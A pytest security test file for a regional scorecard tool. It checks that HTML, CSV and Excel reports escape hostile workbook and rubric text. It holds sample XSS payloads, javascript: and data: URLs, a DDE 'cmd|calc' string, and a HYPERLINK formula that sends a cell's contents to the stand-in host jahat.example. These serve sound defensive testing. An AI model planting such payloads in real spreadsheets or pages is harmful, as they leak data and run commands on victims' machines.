"""Hostile content stays inert: strings from a workbook or a rubric are escaped in HTML, only
http(s) URLs become links, and no text can become a formula in CSV or Excel output."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from corpus.commands import FOCUS, workspace
from scorecard.cli import COMMANDS, cli
from scorecard.io.output import FORMULA_TRIGGERS, csv_text, safe_cell

SCRIPT = '<script>alert("xss")</script>'
ATTR = '"><img src=x onerror=alert(1)>'
JS_URL = "javascript:alert(document.cookie)"
DATA_URL = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
FORMULA = '=HYPERLINK("http://jahat.example/?"&A1,"klik")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
GOOD_URL = "https://www.bps.go.id/id/statistics-table/2/MTkyIzI=/persentase-penduduk-miskin.html"
PAYLOADS = (SCRIPT, ATTR, JS_URL, DATA_URL, FORMULA, DDE)


# --- safe_cell and the CSV writer ---------------------------------------------------------------
@pytest.mark.parametrize("text", ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", FORMULA, DDE])
def test_safe_cell_neutralises_formula_triggers(text):
    out = safe_cell(text)
    assert out == "'" + text
    assert not out.startswith(tuple(t for t in FORMULA_TRIGGERS if t != "'"))


@pytest.mark.parametrize("value", [-5, -2.5, 0, 3, None, "Kota Madiun", "35.77"])
def test_safe_cell_leaves_numbers_and_plain_text(value):
    assert safe_cell(value) == value


def test_csv_text_prefixes_every_dangerous_cell():
    text = csv_text(["nama", "=kolom"], [[FORMULA, 1], [DDE, -3], ["aman", "+62 812"]])
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or cell in ("-3",), row
    assert rows[1][0] == "'" + FORMULA and rows[3][1] == "'+62 812"


# --- hostile inputs ---------------------------------------------------------------------------
def hostile_inputs(tmp_path: Path):
    """The sample workbook and rubric with hostile strings in every free-text place."""
    ws = workspace(tmp_path)
    book = openpyxl.load_workbook(ws.workbook)
    sheet = book["wilayah"]
    rows = list(sheet.iter_rows())
    hdr_i = next(i for i, r in enumerate(rows) if any(c.value == "Wilayah" for c in r))
    headers = {c.value: c.column for c in rows[hdr_i]}
    data = [r for r in rows[hdr_i + 1:] if isinstance(r[0].value, int)]
    texts = {"sumber": f"{SCRIPT} {GOOD_URL} {JS_URL}", "sumber_nilai_sakip": f"{ATTR} {DATA_URL}",
             "sumber_nilai_rb": FORMULA, "sumber_penduduk_miskin": DDE}
    for r in data:
        for col, text in texts.items():
            cell = sheet.cell(r[0].row, headers[col])
            cell.value = text
            cell.data_type = "s"  # stored as text, as a planner pasting it would get
    aw = book["penghargaan"]
    for r in list(aw.iter_rows(min_row=2))[:6]:
        r[3].value, r[3].data_type = FORMULA if r[0].row % 2 else SCRIPT, "s"
        r[7].value, r[7].data_type = JS_URL if r[0].row % 2 else ATTR, "s"
    book.save(ws.workbook)
    text = ws.rubric.read_text(encoding="utf-8")
    text = text.replace("name: {id: Smart Governance, en: Smart Governance}",
                        "name: {id: 'Smart Governance " + SCRIPT.replace('"', "") + "', en: '=cmd|calc'}", 1)
    text = text.replace("name: {id: SAKIP, en: SAKIP}", "name: {id: '" + ATTR.replace('"', "") + "', en: '@SUM(1)'}", 1)
    ws.rubric.write_text(text, encoding="utf-8")
    return ws


@pytest.fixture(scope="module")
def report_files(tmp_path_factory):
    if "report" not in COMMANDS:
        pytest.skip("the report command does not exist yet")
    tmp = tmp_path_factory.mktemp("jahat")
    ws = hostile_inputs(tmp)
    out = tmp / "laporan.html"
    res = CliRunner().invoke(cli, ["report", str(ws.workbook), "--rubric", str(ws.rubric), "--focus", FOCUS,
                                   "-o", str(out), "--excel"])
    assert res.exit_code == 0, res.output
    return out.read_text(encoding="utf-8"), out.with_suffix(".xlsx")


def test_report_html_escapes_workbook_and_rubric_strings(report_files):
    html, _ = report_files
    assert '<script>alert("xss")' not in html and "<script>alert(" not in html
    assert "<img src=x" not in html
    assert "onerror=alert" not in html or "onerror=alert(1)&gt;" in html  # only as escaped text
    # the hostile strings did reach the report, as text
    assert "&lt;script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html or "&#34;&gt;&lt;img" in html


def test_report_html_links_only_http(report_files):
    html, _ = report_files
    hrefs = re.findall(r"""href\s*=\s*["']([^"']*)["']""", html, flags=re.I)
    assert GOOD_URL.replace("&", "&amp;") in hrefs or GOOD_URL in hrefs, "an http(s) source must become a link"
    for href in hrefs:
        assert href.startswith(("http://", "https://", "#")) or re.fullmatch(r"[\w.-]+\.html?", href), href
    assert not re.search(r"""(href|src|action)\s*=\s*["']?\s*(javascript|data|vbscript):""", html, flags=re.I)
    # parsed as a browser would: no event-handler attribute, no element that came from the data
    from html.parser import HTMLParser

    class Tags(HTMLParser):
        def __init__(self):
            super().__init__()
            self.tags: list[tuple[str, list]] = []

        def handle_starttag(self, tag, attrs):
            self.tags.append((tag, attrs))

    parser = Tags()
    parser.feed(html)
    for tag, attrs in parser.tags:
        assert not any(name.lower().startswith("on") for name, _ in attrs), (tag, attrs)
        assert tag != "img", attrs
        if tag == "script":
            assert not dict(attrs).get("src"), attrs
    assert sum(tag == "script" for tag, _ in parser.tags) <= 2  # the report's own inline script(s)


def _sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


def _formulas(path: Path) -> list[str]:
    return [f for xml in _sheet_xml(path).values() for f in re.findall(r"<f[^>]*>([^<]*)</f>", xml)]


def test_report_excel_has_no_formula_from_input(report_files):
    _, xlsx = report_files
    assert xlsx.is_file()
    for f in _formulas(xlsx):
        assert "jahat" not in f and "cmd" not in f and "SUM(1" not in f, f
    book = openpyxl.load_workbook(xlsx)
    seen = False
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and ("jahat.example" in cell.value or "cmd|" in cell.value):
                    seen = True
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
    assert seen, "the hostile strings should appear in the Excel report, as text"


def test_score_csv_has_no_formula(tmp_path):
    ws = hostile_inputs(tmp_path)
    res = CliRunner().invoke(cli, ["score", str(ws.workbook), "--rubric", str(ws.rubric), "--format", "csv"])
    assert res.exit_code == 0, res.output
    for row in csv.reader(io.StringIO(res.stdout)):
        for cell in row:
            if cell.startswith(FORMULA_TRIGGERS):
                float(cell)  # only a negative number may start with '-'


def test_init_template_has_no_formula_from_rubric(tmp_path):
    if "init" not in COMMANDS:
        pytest.skip("the init command does not exist yet")
    ws = hostile_inputs(tmp_path)
    text = ws.rubric.read_text(encoding="utf-8")
    text = re.sub(r"(  nilai_sakip: \{label: )([^,]+),", r"\1'=HYPERLINK(\"http://jahat.example\")',", text, count=1)
    ws.rubric.write_text(text, encoding="utf-8")
    res = CliRunner().invoke(cli, ["init", str(tmp_path / "t"), "--rubric", str(ws.rubric),
                                   "--regions", "Kota Balikpapan"])
    assert res.exit_code == 0, res.output
    books = list((tmp_path / "t").glob("*.xlsx"))
    assert books
    for book in books:
        for f in _formulas(book):
            assert "jahat" not in f and "cmd" not in f, f


def test_html_template_environment_autoescapes():
    from scorecard.io import html_report

    src = Path(html_report.__file__).read_text(encoding="utf-8")
    assert "autoescape=True" in src
    assert html_report.safe_href("javascript:alert(1)") is None
    assert html_report.safe_href(" JavaScript:alert(1)") is None
    assert html_report.safe_href("data:text/html,x") is None
    assert html_report.safe_href(GOOD_URL) == GOOD_URL
